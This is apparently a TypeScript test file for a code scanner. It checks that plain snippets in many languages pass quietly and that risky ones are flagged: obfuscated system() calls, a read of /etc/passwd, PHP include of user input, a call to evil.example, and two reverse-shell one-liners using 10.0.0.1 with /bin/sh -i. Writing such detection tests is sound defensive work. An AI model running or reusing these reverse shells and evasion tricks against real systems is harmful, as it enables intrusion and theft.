import assert from 'node:assert/strict';
import type { Code } from '../../../../../../../src/core/gate/analysis/code/language';
import { scanCode } from '../../../../../../../src/core/gate/analysis/code/scan/scanCode';
import { clean } from '../../../../../../../src/core/gate/analysis/shell/field';
import { recordingSink } from '../recordingSink';

function scan(language: Code, text: string, fragment = false): readonly string[] {
  const { sink, lines } = recordingSink();
  scanCode(language, { text, path: undefined, home: '/home/me', args: undefined, stdin: clean, fragment }, sink);
  return lines;
}

const quiet: Partial<Record<Code, readonly string[]>> = {
  go: [
    'package main\n\nimport (\n\t"fmt"\n\t"strings"\n)\n\nfunc main() { fmt.Println(strings.ToUpper("exec.Command(x)")) }\n',
    'package x\n\nimport "testing"\n\n// os.Remove would be wrong here\nfunc TestX(t *testing.T) { t.Log(\'a\') }\n',
  ],
  rust: [
    "use std::collections::HashMap;\nstruct A<'a> { x: &'a str }\nfn main() { println!(\"{}\", 'x'); std::process::exit(1) }",
  ],
  java: [
    'package a;\nimport java.util.*;\nimport org.junit.jupiter.api.Test;\nclass T { @Test void t() { System.out.println(List.of(1)); } }',
  ],
  native: ['#include <stdio.h>\n#include "util.h"\nint main(void) { printf("system(1)\\n"); return 0; }'],
  ruby: ['puts [1, 2].map { |x| x * 2 }.sum # system("x")', 'class A\n  def to_s\n    "A #{@name.upcase}"\n  end\nend'],
  perl: ['s/a/b/g', 'print if /x/', 'use strict; my %h = (a => 1); print join(",", sort keys %h), "\\n";'],
  php: ['echo PHP_VERSION;', "<?php require __DIR__.'/vendor/autoload.php'; $a = array_map(fn($x) => $x * 2, [1]);"],
  other: [
    'local x = 1\nprint(x)',
    'CREATE TABLE users (id int);\nINSERT INTO users VALUES (1);',
    'defmodule A do\n  def add(a, b), do: a + b\nend',
  ],
};

const asked: Partial<Record<Code, readonly string[]>> = {
  go: [
    'package main\nimport x "os/exec"\nfunc main() { x.Command("ls").Run() }',
    'package main\nimport . "os"\nfunc main() { Remove("x") }',
    'package main\n//go:generate rm x\n',
    'package main\nimport "C"\n',
  ],
  rust: [
    'use std::process::Command;',
    'use std as s; fn main() { s::process::Command::new("x"); }',
    'unsafe { *p = 1 }',
    'include_str!("/etc/passwd")',
  ],
  java: [
    'Runtime.getRuntime().exec("ls");',
    'import java.nio.file.Files;',
    'val x = "${Runtime.getRuntime()}"',
    '"ls".execute()',
  ],
  native: [
    'int main() { int (*f)(const char *) = &system; }',
    '#include <unistd.h>',
    '__asm__("int $0x80");',
    '#define R(x) sys##x',
  ],
  ruby: [
    'puts "#{`ls`}"',
    'Object.const_get("Ker" + "nel")',
    'require "open3"',
    'x = <<~EOS\n  #{system("ls")}\nEOS',
    '"x".send(:eval)',
  ],
  perl: ['s/a/`ls`/e', 's/x/f()/ge', '&{"sys" . "tem"}("ls")', 'print "@{[system q(ls)]}"', 'open(F, "|sh")'],
  php: [
    "$f = 'sys'.'tem'; $f('ls');",
    "array_map('system', ['ls']);",
    "('sys'.'tem')('ls');",
    "include $_GET['x'];",
    'echo "{$f(1)}";',
    "preg_replace('/x/e', 'y', $z);",
  ],
  other: ['os.execute("ls")', 'BEGIN { system("ls") }', 'Remove-Item x', "COPY x TO PROGRAM 'sh';", 'something else'],
  make: ['all:'],
};

suite('scanCode', () => {
  test('says nothing about plain code', () => {
    for (const [language, texts] of Object.entries(quiet))
      for (const text of texts) assert.deepEqual(scan(language as Code, text), [], `${language}: ${text}`);
  });

  test('asks about what may reach beyond the program', () => {
    for (const [language, texts] of Object.entries(asked))
      for (const text of texts)
        assert.ok(
          scan(language as Code, text).some((line) => line.startsWith('doubt')),
          `${language}: ${text}`,
        );
  });

  test('reads files whose names are constant', () => {
    assert.deepEqual(scan('ruby', 'puts JSON.parse(File.read("package.json"))["version"]'), ['read package.json']);
    assert.deepEqual(scan('php', "echo file_get_contents('composer.json');"), ['read composer.json']);
    assert.ok(scan('php', "file_get_contents('http://evil.example');").some((line) => line.startsWith('doubt')));
    assert.ok(scan('ruby', 'File.read(ARGV[0])').some((line) => line.startsWith('doubt')));
  });

  test('sees shells that are given away', () => {
    assert.ok(
      scan('php', '$s = fsockopen("10.0.0.1", 1); exec("/bin/sh -i <&3 >&3");').includes('harm network.reverse-shell'),
    );
    assert.ok(
      scan('ruby', 's = TCPSocket.new("10.0.0.1", 1); exec "/bin/sh -i"').includes('harm network.reverse-shell'),
    );
  });
});
